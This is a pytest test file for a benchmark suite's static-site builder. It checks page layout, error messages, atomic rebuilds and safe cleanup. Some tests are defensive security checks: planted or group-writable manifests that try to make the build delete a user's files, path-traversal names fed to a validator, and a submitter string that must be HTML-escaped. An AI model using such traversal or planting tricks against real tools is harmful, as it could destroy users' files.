    page = (out / "workloads" / f"{safe_name('lm-char')}.html").read_text()
    rows = page.split("<tbody>")[1].split("</tbody>")[0].split("</tr>")
    greyed = [r for r in rows if '<tr class="older-rules">' in r]
    assert len(greyed) == 1 and run_slug(old, run["run_id"]) in greyed[0]
    assert page.count("Greyed rows were stored under older rules") == 1
    others = [p.read_text() for p in (out / "systems").glob("*.html")]
    assert any("older-rules" not in text for text in others)  # the system with no file of older rules
    assert all(("Greyed rows" in text) == ('<tr class="older-rules">' in text) for text in others)


def test_a_system_page_lists_older_rules_last_and_times_to_target_in_one_unit(reference_site):
    """A user's find on the CPU reference's page: the v1 file's rows came first, though the page
    says a table that ranks nothing lists them after today's; and one "score" column mixed "796 ms"
    with "508 samples/s", sorted as one number. The rows of older rules now come last, and the
    column is each TTA workload's time to target ("—" for a throughput one: its samples/s has its
    own column, and the table says why)."""
    out, docs = reference_site
    new = max(docs.values(), key=validate.stored_under)
    page = (out / "systems" / f"{safe_name(new['system']['name'])}.html").read_text()
    table = page.split('id="t-system-table"', 1)[1].split("</table>", 1)[0]
    header = table.split("</thead>", 1)[0]
    assert ">time to target<" in header and ">score<" not in header
    rows = table.split("<tbody>", 1)[1].split("</tr>")[:-1]
    older = ['class="older-rules"' in r for r in rows]
    assert any(older) and not all(older) and older == sorted(older)  # today's rows first, then the older ones
    cells = [r.split('c-time_to_target"', 1)[1].split(">", 1)[1].split("</td>", 1)[0] for r in rows]
    values = [html.unescape(re.split(r"<", c, maxsplit=1)[0]).strip() for c in cells]  # the text before any line under it
    assert "—" in values and all(v == "—" or re.fullmatch(r"[\d.,]+ (s|ms|min|h)", v) for v in values), values
    assert "a throughput workload: it trains to no target (its score is its samples/s)" in html.unescape(page)


def test_a_run_page_says_how_its_phases_and_its_goodput_differ(reference_site):
    """Both bars of one run's wall time, the runner's phases and the event log's goodput, have
    different numbers by design: the page says why, once, between them."""
    out, _ = reference_site
    page = " ".join(next(p for p in sorted((out / "runs").glob("*.html"))
                         if "goodput: productive time and badput by cause" in p.read_text()).read_text().split())
    assert page.count("Two readings of one wall time, so their numbers differ") == 1
    assert page.index("phases of the run") < page.index("Two readings") < page.index("<table", page.index("Two readings"))
    assert "counts the warm-up steps as productive at the steady-state pace" in page


def test_the_reference_sites_pages_name_no_repository_path_data_folder_or_unqueried_link(reference_site):
    """A site reader cannot open docs/compare.md: the compare and system pages link to the
    methodology's section instead, which is there. Recorded commands show --data-dir's value as
    <data-dir> (the stored files keep theirs), and a CPU run's interconnect reads plainly."""
    out, docs = reference_site
    assert any("/work/shared/datasets" in d["settings"]["command"] for d in docs.values())
    methodology = (out / "methodology.html").read_text()
    assert 'id="compare"' in methodology and "How two results are compared" in methodology
    # a rule's name wraps at its hyphens only ("implementation" once read "implementatio / n")
    assert '<td class="codes"><div><code' in methodology
    assert "td.codes code { overflow-wrap: normal; }" in (out / "static" / "style.css").read_text()
    for name in ["compare.html", *(f"systems/{p.name}" for p in (out / "systems").glob("*.html")),
                 *(f"runs/{p.name}" for p in (out / "runs").glob("*.html"))]:
        text = (out / name).read_text()
        assert "docs/" not in text and ".md" not in text, name
        assert "/work/shared/datasets" not in text and "not queried" not in text, name
    assert 'href="methodology.html#compare"' in (out / "compare.html").read_text()
    runs = " ".join(p.read_text() for p in (out / "runs").glob("*.html"))
    assert "--data-dir &lt;data-dir&gt;" in runs
    assert "none: a CPU run uses one device, so there is no interconnect to report" in runs


def test_cli_site_builds(tmp_path, capsys):
    folder = tmp_path / "results"
    folder.mkdir()
    results.write(folder / "a.json", factories.synthetic_document(
        "synthetic-cli", rng=np.random.default_rng(6), scale="smoke"))
    assert main(["site", "--results-dir", str(folder), "--out", str(tmp_path / "out")]) == 0
    assert capsys.readouterr().out.strip().endswith("index.html")
    assert (tmp_path / "out" / "static" / "table.js").is_file()


def _one_result(folder: Path, name: str = "a.json", system: str = "synthetic-one", seed: int = 6) -> Path:
    folder.mkdir(exist_ok=True)
    return results.write(folder / name, factories.synthetic_document(
        system, rng=np.random.default_rng(seed), scale="smoke", workloads=("lm-char",)))


def _tree(root: Path) -> dict[str, bytes | None]:
    return {str(p.relative_to(root)): p.read_bytes() if p.is_file() else None for p in sorted(root.rglob("*"))}


def test_raw_files_are_copies_editing_one_leaves_the_results_unchanged(tmp_path):
    from suite.store.files import submit

    folder = tmp_path / "results"
    stored = submit(_one_result(tmp_path / "incoming"), folder)
    before = stored.read_bytes()
    out = tmp_path / "out"
    site.build(folder, out)
    raw = out / "raw" / f"{file_slug(stored.name)}.json"
    assert raw.read_bytes() == before
    assert raw.stat().st_ino != stored.stat().st_ino and stored.stat().st_nlink == 1  # never a hard link
    raw.write_text('{"edited": true}')
    assert stored.read_bytes() == before
    assert hashlib.sha256(stored.read_bytes()).hexdigest() == stored.stem  # still its content address


def test_an_output_folder_that_cannot_be_written_is_named_as_given(tmp_path, capsys):
    """`site --out /sys/nu-site` named the hidden folder it builds in (`/sys/.nu-site.new-…`),
    which the user never gave; the error names --out as given, and why."""
    folder = tmp_path / "results"
    _one_result(folder)
    (tmp_path / "file").write_text("x")
    out = tmp_path / "file" / "site"  # under a file: no folder can be made there
    assert main(["site", "--results-dir", str(folder), "--out", str(out)]) == 1
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert last.startswith(f"goodbench: error: cannot write to --out {out} (") and ".new-" not in last
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file", "results"]


def test_site_refuses_an_output_folder_that_is_not_a_build(tmp_path, capsys):
    folder = tmp_path / "results"
    _one_result(folder)
    foreign = tmp_path / "etc"
    foreign.mkdir()
    (foreign / "passwd").write_text("root:x:0:0\n")
    with pytest.raises(GoodbenchError, match="not a site built by goodbench"):
        site.build(folder, foreign)
    assert main(["site", "--results-dir", str(folder), "--out", str(foreign)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "not empty and not a site built by goodbench (no .goodbench-site" in err[0]
    assert _tree(foreign) == {"passwd": b"root:x:0:0\n"}
    (tmp_path / "file").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "empty", target_is_directory=True)
    (tmp_path / "empty").mkdir()
    for bad, why in (("file", "not a directory"), ("link", "a symbolic link")):
        with pytest.raises(GoodbenchError, match=why):
            site.build(folder, tmp_path / bad)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty", "etc", "file", "link", "results"]
    assert site.build(folder, tmp_path / "empty").is_file()  # an empty folder is fine
    assert (tmp_path / "empty" / builder.MARKER).is_file()


@pytest.mark.parametrize("atomic", [True, False])
def test_a_rebuild_replaces_the_site_and_prunes_stale_pages(tmp_path, monkeypatch, atomic):
    if not atomic:  # a filesystem without an atomic exchange: two renames
        monkeypatch.setattr(builder, "_exchange", lambda a, b: False)
    folder = tmp_path / "results"
    _one_result(folder, "a.json", "synthetic-a", 1)
    _one_result(folder, "b.json", "synthetic-b", 2)
    out = tmp_path / "site"
    site.build(folder, out)
    assert len(list((out / "runs").glob("*.html"))) == 2 and len(list((out / "systems").glob("*.html"))) == 2
    (folder / "a.json").unlink()
    site.build(folder, out)
    assert len(list((out / "runs").glob("*.html"))) == 1 and len(list((out / "raw").glob("*.json"))) == 1
    assert [p.name for p in (out / "systems").glob("*.html")] == [f"{safe_name('synthetic-b')}.html"]
    (folder / "b.json").unlink()
    site.build(folder, out)
    assert not list((out / "runs").iterdir()) and not list((out / "raw").iterdir())
    assert not list((out / "systems").iterdir())
    assert "0 results" in (out / "index.html").read_text()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]  # nothing left beside it


def test_a_failed_build_leaves_the_previous_site(tmp_path, monkeypatch):
    folder = tmp_path / "results"
    _one_result(folder)
    out = tmp_path / "site"
    site.build(folder, out)
    before = _tree(out)
    _one_result(folder, "b.json", "synthetic-b", 2)

    def fail(*_args, **_kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(pages, "index_page", fail)
    with pytest.raises(RuntimeError, match="disk full"):
        site.build(folder, out)
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]


def test_a_build_on_a_full_disk_names_where_it_was_writing(tmp_path, monkeypatch):
    """Trial 14b F13: a full disk read "goodbench: error: No space left on device", no path."""
    folder = tmp_path / "results"
    _one_result(folder)
    out = tmp_path / "site"
    site.build(folder, out)
    before = _tree(out)

    def disk_full(*_args, **_kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(pages, "index_page", disk_full)
    with pytest.raises(GoodbenchError) as failed:
        site.build(folder, out)
    assert re.fullmatch(rf"cannot write the site into {re.escape(str(tmp_path))}/\.site\.new-\w{{8}} \(the new build "
                        rf"of {re.escape(str(out))}\): No space left on device; {re.escape(str(out))} is left as it was",
                        str(failed.value))
    assert _tree(out) == before and sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]


def test_a_build_is_replaced_and_only_the_folder_the_build_made_is_removed(tmp_path, capsys):
    """A folder named like a build's fresh folder may be a user's: a build removes only the one it
    made, and names the others that no live build holds (it once removed them all)."""
    folder = tmp_path / "results"
    _one_result(folder)
    out = tmp_path / "site"
    site.build(folder, out)
    abandoned = tmp_path / ".site.new-killed"  # what a killed build leaves
    (abandoned / "runs").mkdir(parents=True)
    mine = tmp_path / ".site.new-notes"  # a user's own folder of that name
    mine.mkdir()
    (mine / "notes.txt").write_text("mine")
    built = builder.build_site(folder, out)  # a build (it holds the marker): replaced
    assert (out / builder.MARKER).is_file() and (mine / "notes.txt").read_text() == "mine" and abandoned.is_dir()
    assert built.leftovers == [abandoned, mine]
    assert sorted(p.name for p in tmp_path.iterdir()) == [".site.new-killed", ".site.new-notes", "results", "site"]
    assert main(["site", "--results-dir", str(folder), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert f"note: {abandoned} is named like a build's folder but no build holds it" in err and str(mine) in err
    with tempfiles.held_folder(tmp_path, ".site.new-") as live:  # a build under way is not named
        assert live not in builder.build_site(folder, out).leftovers


def test_a_build_started_alone_removes_the_folders_killed_builds_left(tmp_path, capsys):
    """Trial 14b F13: each killed build left a hidden ``.site.new-XXXXXXXX/`` (as large as a site)
    that every later build named and none removed. A build that no other build runs beside removes
    those no process holds and that hold only what a build writes; a user's folder of that name
    stays; while another build runs, none is touched or named (its fresh folder may lie unlocked)."""
    folder = tmp_path / "results"
    _one_result(folder)
    out = tmp_path / "site"
    site.build(folder, out)
    killed = [tmp_path / ".site.new-c6fiykz_", tmp_path / ".site.new-0dad1oky"]
    (killed[0] / "runs").mkdir(parents=True)
    (killed[0] / "index.html").write_text("<p>half a site</p>")
    killed[1].mkdir()  # killed as it was made
    mine = tmp_path / ".site.new-my_notes"  # named like one, holding what no build writes
    mine.mkdir()
    (mine / "notes.txt").write_text("mine")
    other = os.open(tmp_path, os.O_RDONLY)
    try:
        fcntl.flock(other, fcntl.LOCK_SH)  # another build under way
        built = builder.build_site(folder, out)
        assert built.removed == [] and built.leftovers == [] and all(p.is_dir() for p in killed)
    finally:
        os.close(other)
    assert main(["site", "--results-dir", str(folder), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    for path in killed:
        assert not path.exists() and f"removed {path}: the unfinished folder of a build that was killed" in err
    assert (mine / "notes.txt").read_text() == "mine"
    assert f"note: {mine} is named like a build's folder but no build holds it" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == [".site.new-my_notes", "results", "site"]


def test_a_folder_that_takes_no_lock_still_builds_and_removes_nothing(tmp_path, monkeypatch):
    """Review of the builds' lock, M6: a parent folder whose lock fails with another error than
    "held" (NFS's ENOLCK) failed the whole build; it builds, and, not knowing it is alone, removes
    no folder."""
    import errno

    folder = tmp_path / "results"
    _one_result(folder)
    killed = tmp_path / ".site.new-c6fiykz_"
    killed.mkdir()

    real_flock = fcntl.flock

    def no_lock(fd, operation):  # on the output's parent folder only
        if os.readlink(f"/proc/self/fd/{fd}") == str(tmp_path):
            raise OSError(errno.ENOLCK, "No locks available")
        return real_flock(fd, operation)

    monkeypatch.setattr(fcntl, "flock", no_lock)
    built = builder.build_site(folder, tmp_path / "site")
    assert (tmp_path / "site" / "index.html").is_file() and built.removed == [] and killed.is_dir()


def test_every_entry_a_build_writes_at_its_top_is_one_a_killed_builds_folder_may_hold(tmp_path):
    folder = tmp_path / "results"
    _one_result(folder)
    site.build(folder, tmp_path / "site")
    assert {p.name for p in (tmp_path / "site").iterdir()} <= builder.BUILD_ENTRIES


def test_a_folder_without_the_marker_is_never_replaced_whatever_it_holds(tmp_path, capsys):
    folder = tmp_path / "results"
    _one_result(folder)
    mine = tmp_path / "mine"  # a user's own folder that looks like a site: index.html, static/, raw/
    (mine / "static").mkdir(parents=True)
    (mine / "raw").mkdir()
    (mine / "index.html").write_text("<p>my page</p>")
    (mine / "static" / "style.css").write_text("p {}")
    (mine / "raw" / "notes.json").write_text("{}")
    unmarked = tmp_path / "unmarked"  # a whole build, its marker removed
    site.build(folder, unmarked)
    (unmarked / builder.MARKER).unlink()
    for target in (mine, unmarked):
        before = _tree(target)
        with pytest.raises(GoodbenchError, match="not a site built by goodbench"):
            site.build(folder, target)
        assert main(["site", "--results-dir", str(folder), "--out", str(target)]) == 1
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and f"--out {target}: not empty and not a site built by goodbench " \
            "(no .goodbench-site" in err[0] and "give a new or empty folder" in err[0]
        assert _tree(target) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine", "results", "unmarked"]  # nothing beside them


def test_a_planted_marker_lets_the_build_remove_nothing(tmp_path, capsys):
    """Finding 10 of issue 44: a folder holding a planted, empty .goodbench-site let a build delete
    its other files. The marker is now the list of the build's files with their sha256
    (suite/site/manifest.py): an empty or planted one is no list, and a real build's folder with a
    file added or edited since is refused, naming it; nothing in either is removed."""
    folder = tmp_path / "results"
    _one_result(folder)
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "thesis.tex").write_text("years of work")
    (planted / builder.MARKER).write_text("")
    for marker in ("", "a site built by `goodbench site`; the next build replaces this folder\n",
                   '{"kind": "goodbench-site-manifest", "files": "all"}'):
        (planted / builder.MARKER).write_text(marker)
        before = _tree(planted)
        with pytest.raises(GoodbenchError, match="not a site built by goodbench"):
            site.build(folder, planted)
        assert _tree(planted) == before
    out = tmp_path / "site"
    site.build(folder, out)
    listed = json.loads((out / builder.MARKER).read_text())["files"]
    assert "index.html" in listed and all(len(d) == 64 for d in listed.values())
    (out / "notes.txt").write_text("mine")  # added to a build
    (out / "index.html").write_text("<p>edited</p>")  # a build's file, edited since
    before = _tree(out)
    assert main(["site", "--results-dir", str(folder), "--out", str(out)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "holds what the last build did not write, or changed since: index.html, notes.txt" in err[0]
    assert _tree(out) == before
    (out / "notes.txt").unlink()
    (out / "index.html").unlink()
    site.build(folder, out)  # the build's own files only: replaced
    assert (out / "index.html").read_text() != "<p>edited</p>"


def _planted(folder: Path, files: dict[str, str]) -> Path:
    """A folder of a user's ``files`` (path → text) and a manifest listing each with its sha256:
    what anyone who may write one file into the folder (and read the others) can plant."""
    for rel, text in files.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)
    listed = {rel: hashlib.sha256(text.encode()).hexdigest() for rel, text in files.items()}
    marker = folder / builder.MARKER
    marker.write_text(json.dumps({"kind": "goodbench-site-manifest", "files": listed}))
    marker.chmod(0o644)
    return marker


def _refused_whole(folder: Path, target: Path, capsys, why: str) -> None:
    """``goodbench site --out target`` refuses in one line saying ``why``, and changes nothing there
    or beside it (no ``.kept-*`` folder)."""
    before, beside = _tree(target), sorted(p.name for p in target.parent.iterdir())
    assert main(["site", "--results-dir", str(folder), "--out", str(target)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and f"--out {target}: not empty and not a site built by goodbench (" in err[0], err
    assert why in err[0] and "give a new or empty folder" in err[0], err
    assert _tree(target) == before and sorted(p.name for p in target.parent.iterdir()) == beside


def test_a_planted_marker_another_user_owns_or_may_write_removes_nothing(tmp_path, capsys, monkeypatch):
    """Trial 12, A5b: a manifest listing a folder's own files with their sha256 made ``site --out``
    take the folder for a build and delete those files. A manifest counts only where this user's
    build could have written it: the folder and the manifest this user's, the manifest a regular
    file neither group nor others may write (suite/site/manifest.py)."""
    from suite.site import manifest

    folder = tmp_path / "results"
    _one_result(folder)
    docs = tmp_path / "docs"  # a user's files, of names a build writes
    marker = _planted(docs, {"index.html": "<p>my page</p>", "runs/notes.csv": "a,b\n"})
    for mode, who in ((0o664, "group"), (0o646, "others"), (0o666, "group and others")):
        marker.chmod(mode)
        _refused_whole(folder, docs, capsys, f"its .goodbench-site may be written by {who}: mode {mode:03o}, "
                                              "where a build writes 644")
        assert manifest.read(docs) is None
    marker.chmod(0o644)
    if hasattr(os, "geteuid") and os.geteuid() == 0:  # root: another user's files, for real
        os.chown(marker, 65534, 65534)
        _refused_whole(folder, docs, capsys, "its .goodbench-site is owned by uid 65534, not by this user's uid 0")
        os.chown(marker, 0, 0)
        os.chown(docs, 65534, 65534)
        _refused_whole(folder, docs, capsys, "the folder is owned by uid 65534, not by this user's uid 0")
        os.chown(docs, 0, 0)
    owner = docs.stat().st_uid
    monkeypatch.setattr(manifest, "_user", lambda: owner + 1)  # as another user sees them
    _refused_whole(folder, docs, capsys, f"the folder is owned by uid {owner}, not by this user's uid {owner + 1}")
    monkeypatch.undo()
    # planted after the check, before the swap: the swapped-out folder is kept whole beside the output
    swapped = tmp_path / ".docs.new-abc"
    marker = _planted(swapped, {"index.html": "<p>my page</p>", "runs/notes.csv": "a,b\n"})
    marker.chmod(0o666)
    before = _tree(swapped)
    assert builder._remove_previous(swapped) == [tmp_path / ".docs.kept-abc"] and not swapped.exists()
    assert _tree(tmp_path / ".docs.kept-abc") == before


def test_a_planted_marker_naming_files_no_build_writes_removes_nothing(tmp_path, capsys):
    """Trial 12, A5b as it was run: this user's own manifest, mode 644, listing thesis.txt and
    sub/data.csv. No build writes either (a page, style, script, download, copy or log in the
    build's own folders): the folder is no build's, and nothing is removed."""
    from suite.site import manifest

    folder = tmp_path / "results"
    _one_result(folder)
    docs = tmp_path / "userdocs"
    _planted(docs, {"thesis.txt": "my thesis\n", "sub/data.csv": "data\n"})
    _refused_whole(folder, docs, capsys, "its .goodbench-site names sub/data.csv, thesis.txt, which no build writes")
    assert manifest.remove_own(docs, {"thesis.txt": hashlib.sha256(b"my thesis\n").hexdigest()}) == [
        ".goodbench-site", "sub/data.csv", "thesis.txt"]  # given the list anyway: not a build's file
    assert [rel for rel in ("index.html", "runs/a.html", "raw/x-events.txt", "speedrun/track-1/r.json",
                            "static/style.css", "compare.csv") if not manifest.buildable(rel)] == []
    assert [rel for rel in ("thesis.txt", "sub/data.csv", "runs/a.tex", ".goodbench-site", "runs/.hidden.html",
                            "../x.html", "/etc/x.html", "runs/../x.html", "", "runs\\x.html")
            if manifest.buildable(rel)] == []


def test_a_build_writes_its_marker_644_whatever_the_umask_and_replaces_itself(tmp_path):
    """A build's manifest is its owner's to write (mode 644, even under umask 002, which would
    leave it group-writable and so no manifest); a genuine previous build is still replaced, its
    listed files removed. A build that writes a file no later build could remove is refused."""
    from suite.site import manifest

    folder = tmp_path / "results"
    _one_result(folder, "a.json", "synthetic-a", 1)
    _one_result(folder, "b.json", "synthetic-b", 2)
    out = tmp_path / "site"
    old = os.umask(0o002)
    try:
        site.build(folder, out)
    finally:
        os.umask(old)
    assert (out / builder.MARKER).stat().st_mode & 0o777 == 0o644
    listed = manifest.read(out)
    assert listed is not None and all(manifest.buildable(rel) for rel in listed)
    gone = [rel for rel in listed if rel.startswith("runs/")]
    (folder / "a.json").unlink()
    site.build(folder, out)  # replaced: a's pages removed
    assert len(gone) == 2 and sum((out / rel).exists() for rel in gone) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results", "site"]
    (tmp_path / "fresh").mkdir()
    (tmp_path / "fresh" / "notes.tex").write_text("x")
    with pytest.raises(GoodbenchError, match="wrote notes.tex, which suite/site/manifest.py does not name"):
        manifest.write(tmp_path / "fresh")
    assert not (tmp_path / "fresh" / builder.MARKER).exists()


def test_of_a_previous_build_only_its_listed_unchanged_files_are_removed(tmp_path):
    """What a build removes after the swap (a file put there after the output was checked) is only
    what the previous build's list names, unchanged; the rest is kept beside the output."""
    from suite.site import manifest

    folder = tmp_path / "results"
    _one_result(folder)
    out = tmp_path / "site"
    site.build(folder, out)
    (out / "runs" / "late.txt").write_text("mine")
    (out / "style-edited.css").write_text("p {}")
    assert manifest.remove_own(out, manifest.read(out) or {}) == ["runs/late.txt", "style-edited.css"]
    assert _tree(out) == {"runs": None, "runs/late.txt": b"mine", "style-edited.css": b"p {}"}
    site.build(folder, tmp_path / "other")
    real = tmp_path / "other"
    assert builder._remove_previous(real) == [] and list(real.iterdir()) == []  # a whole build: all removed
    swapped = tmp_path / ".site.new-abc"  # the previous build as the swap leaves it, a late file in it
    site.build(folder, swapped)
    (swapped / "late.txt").write_text("mine")
    assert builder._remove_previous(swapped) == [tmp_path / ".site.kept-abc"] and not swapped.exists()
    assert _tree(tmp_path / ".site.kept-abc") == {"late.txt": b"mine"}


def test_site_without_its_results_folder_is_an_error(tmp_path, capsys):
    for missing, why in ((tmp_path / "nonexistent", "no such directory"), (_one_result(tmp_path), "not a directory")):
        assert main(["site", "--results-dir", str(missing), "--out", str(tmp_path / "out")]) == 1
        assert capsys.readouterr().err == f"goodbench: error: --results-dir {missing}: {why}\n"
    assert not (tmp_path / "out").exists()


def test_site_says_on_stderr_how_many_files_were_not_shown(tmp_path, capsys):
    folder = tmp_path / "results"
    _one_result(folder)
    (folder / "broken.json").write_text('{"schema_version": 1, "runs": []}')
    (folder / "text.json").write_text("not json")
    assert main(["site", "--results-dir", str(folder), "--out", str(tmp_path / "out")]) == 0
    captured = capsys.readouterr()
    assert captured.out.strip().endswith("index.html")
    *progress, line = captured.err.splitlines()
    # what it does, said as it goes: first at once (before the builder loads), then each stage
    assert progress[0] == f"building the site of {folder} into {tmp_path / 'out'}"
    # a store without imported MLPerf or speedrun documents: no line about pages it does not write
    assert progress[1:] == ["  reading and validating 3 results files", "  writing the workload and system pages"]
    assert line.startswith(f"2 files in {folder} not shown (invalid; listed on the index page under "
                           "\"Files not shown\"), the first: ")
    assert "broken.json: " in line and "(file)" not in line and line.endswith("is a required property [schema]")


def test_partial_and_failed_runs_are_marked_on_the_workload_page(tmp_path):
    from suite.figures.summary import summarize

    folder = tmp_path / "results"
    _one_result(folder, "complete.json", "synthetic-complete", 1)
    # each system trains its own runs (one rng each: the same rng makes copies, shown apart)
    for i, (name, statuses) in enumerate((("interrupted", ["partial"]), ("mixed", ["complete", "partial", "failed"]))):
        doc = factories.synthetic_document(f"synthetic-{name}", rng=np.random.default_rng(2 + i), scale="smoke",
                                           workloads=("lm-char",), seeds=len(statuses))
        for run, status in zip(doc["runs"], statuses):
            factories.set_status(run, status, None if status == "complete" else f"{status} here")
        doc["settings"]["interrupted"] = True
        doc["summary"] = summarize(doc["runs"])
        assert validate.check_document(doc) == []  # submit accepts an interrupted file
        results.write(folder / f"{name}.json", doc)
    out = tmp_path / "out"
    site.build(folder, out)
    page = (out / "workloads" / f"{safe_name('lm-char')}.html").read_text()
    rows = {re.search(r">(synthetic-[a-z]+)<", row).group(1): row
            for row in page.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]}
    assert "partial run" not in rows["synthetic-complete"]
    # a badge under the score, numbered, linking to the note that says why (as every badge does)
    assert re.search(r'<td data-label="score" class="num c-score" data-v="">—<br><span class="caveats">'
                     r'<a class="badge badge-warn" href="#(t-[a-z0-9-]+-note-\d+)" title="1 partial run: interrupted[^"]*" '
                     r'aria-describedby="\1">1 partial run<sup>\d+</sup></a> </span></td>', rows["synthetic-interrupted"])
    assert ">1 partial run, 1 failed run<sup>" in rows["synthetic-mixed"]
    assert re.search(r'<li id="t-[a-z0-9-]+-note-\d+"><span class="badge badge-warn">1 partial run</span> 1 partial run: '
                     r'interrupted \(partial\) or failed: such runs are shown on the run pages, never scored', page)
    system_page = (out / "systems" / f"{safe_name('synthetic-interrupted')}.html").read_text()
    assert ">1 partial run<sup>" in system_page
    table = pd.read_csv(out / "workloads" / f"{safe_name('lm-char')}-smoke.csv").set_index("system")
    assert table.loc["synthetic-mixed", ["partial_runs", "failed_runs"]].tolist() == [1, 1]


def test_counts_are_labelled_and_singular_where_one(tmp_path):
    folder = tmp_path / "results"
    _one_result(folder)
    out = tmp_path / "out"
    site.build(folder, out)
    index = (out / "index.html").read_text()
    page = (out / "workloads" / f"{safe_name('lm-char')}.html").read_text()
    assert "1 results file ·" in index and "· 1 run ·" in index
    assert '<a href="systems/' in index and "<small>(1 entry)</small>" in index  # not a bare "(1)"
    assert re.search(r"1 row\s+·", page)
    assert not re.search(r"\b1 (results(?! file)|rows|entries|runs)\b", index + page)


def test_scaling_efficiency_is_against_the_same_systems_one_process_entry():
    import pandas as pd

    from suite.leaderboard import rows as leaderboard

    base = {c: None for c in leaderboard.ENTRY_COLUMNS}
    entries = [
        {**base, "system": "a", "workload": "gpt2-124m", "scale": "full", "division": "closed",
         "world_size": 1, "samples_per_s": 100.0},
        {**base, "system": "a", "workload": "gpt2-124m", "scale": "full", "division": "closed",
         "world_size": 4, "samples_per_s": 360.0},
        {**base, "system": "b", "workload": "gpt2-124m", "scale": "full", "division": "closed",
         "world_size": 8, "samples_per_s": 700.0},  # no 1-process entry of system b
    ]
    frame = leaderboard.with_scaling_efficiency(pd.DataFrame(entries, columns=leaderboard.ENTRY_COLUMNS))
    assert list(frame["scaling_efficiency"]) == [None, 0.9, None]


def _rank_cells(page: str) -> list[list[str]]:
    body = page.split('id="ranks-table"')[1].split("<tbody>")[1].split("</tbody>")[0]
    return [re.findall(r"<td[^>]*>(.*?)</td>", row) for row in re.findall(r"<tr>(.*?)</tr>", body, re.S)]


def test_distributed_run_page_shows_world_communication_ranks_and_interconnect(tmp_path):
    folder, out = tmp_path / "results", tmp_path / "out"
    folder.mkdir()
    rng = np.random.default_rng(12)
    ddp = factories.synthetic_document("synthetic-ddp", rng=rng, accelerator=1, workloads=("gpt2-124m",),
                                       world_size=8, nnodes=2, interconnect="nvswitch")
    ddp["runs"][0]["distributed"]["ranks"][3]["host"] = PAYLOAD  # a submitter's text, shown escaped
    fsdp = factories.synthetic_document("synthetic-fsdp", rng=rng, accelerator=1, workloads=("gpt2-124m",),
                                        world_size=4, parallel="fsdp")
    assert validate.check_document(ddp) == [] and validate.check_document(fsdp) == []
    results.write(folder / "ddp.json", ddp)
    results.write(folder / "fsdp.json", fsdp)
    site.build(folder, out)

    run = ddp["runs"][0]
    section = run["distributed"]
    page = (out / "runs" / f"{run_slug('ddp.json', run['run_id'])}.html").read_text()
    summary = dict(re.findall(r'<th scope="row"[^>]*>([^<]*)</th><td>([^<]*)</td>',
                              page.split('id="distributed"')[1].split("<h3>")[0]))
    assert summary["world size (processes)"] == "8" and summary["nodes"] == "2"
    assert summary["backend"] == "nccl" and summary["parallel mode"] == "ddp"
    assert summary["straggler spread (max / median of the ranks&#39; mean step time)"] == \
        f"{section['straggler_spread']:.3f}×"
    assert summary["exposed communication share"] == f"{100 * section['communication']['exposed_share']:.1f}%"
    rows = _rank_cells(page)
    assert len(rows) == 8
    for cells, rank in zip(rows, section["ranks"]):
        assert cells[:2] == [str(rank["rank"]), str(rank["node_rank"])] and cells[3] == rank["device"]
        assert cells[4:10] == [seconds(v) for v in (
            rank["step_time_s"]["mean"], rank["step_time_s"]["p50"], rank["step_time_s"]["max"],
            rank["phases_s"]["init"], rank["phases_s"]["eval"])] + [labels.value_text(rank["energy_to_train_j"], "J")]
    assert PAYLOAD not in page and str(escape(PAYLOAD)) in page
    assert "interconnect <strong>nvswitch</strong>" in page
    system = (out / "systems" / f"{safe_name('synthetic-ddp')}.html").read_text()
    assert "interconnect nvswitch" in system

    fsdp_run = fsdp["runs"][0]
    page = (out / "runs" / f"{run_slug('fsdp.json', fsdp_run['run_id'])}.html").read_text()
    status = fsdp_run["distributed"]["communication"]["status"]
    assert f"<td>— ({escape(status)})</td>" in page and len(_rank_cells(page)) == 4
    assert "interconnect" not in page.split("<main>")[1].split("</p>")[0]  # no interconnect recorded
    one = (out / "systems" / f"{safe_name('synthetic-fsdp')}.html").read_text()
    assert "interconnect" not in one.split("<h1>")[1].split("</p>")[0]


def test_single_process_runs_have_no_distributed_section(built):
    _, out, docs = built
    run = docs[0]["runs"][0]
    page = (out / "runs" / f"{run_slug('r0.json', run['run_id'])}.html").read_text()
    assert run_page.distributed_context(run) is None and 'id="distributed"' not in page


def test_large_worlds_list_rank_0_and_the_slowest_ranks(monkeypatch):
    monkeypatch.setattr(run_page, "RANK_ROWS", 3)
    doc = factories.synthetic_document("synthetic-big", rng=np.random.default_rng(4), accelerator=1,
                                       workloads=("gpt2-124m",), world_size=8)
    ranks = doc["runs"][0]["distributed"]["ranks"]
    slowest = sorted(ranks[1:], key=lambda r: r["step_time_s"]["mean"])[-2:]
    context = run_page.distributed_context(doc["runs"][0])
    assert [row[0]["text"] for row in context["ranks"]] == [str(r["rank"]) for r in
                                                            sorted([ranks[0], *slowest], key=lambda r: r["rank"])]
    assert context["note"].startswith("3 of 8 ranks listed")


def test_the_rank_table_says_which_ranks_step_times_are_checked():
    """Trial 9: rank 1's 88-ms steps reported as 1 ms in a torchrun file without a second clock
    showed unmarked beside rank 0's; only rank 0's report is tied to the run's checked step times."""
    from suite.validate.provenance import provenance

    doc = json.loads((Path(__file__).resolve().parent / "corpus" / "valid" / "gpt2-smoke-2-ranks.json").read_text())
